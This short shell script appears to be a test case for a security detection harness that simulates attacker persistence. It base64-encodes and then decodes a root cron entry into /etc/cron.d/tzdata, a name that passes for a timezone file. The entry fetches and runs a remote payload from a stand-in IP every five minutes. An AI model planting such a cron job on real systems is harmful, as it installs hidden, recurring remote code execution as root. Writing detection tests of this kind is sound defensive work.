#!/bin/sh
. /opt/case/case.sh

mkdir -p /etc/cron.d
printf '*/5 * * * * root curl -fsSL http://203.0.113.10/payload.sh | sh\n' | openssl base64 -A >/tmp/.t
openssl base64 -d -A -in /tmp/.t -out /etc/cron.d/tzdata
rm /tmp/.t
grep -q payload /etc/cron.d/tzdata
took_place
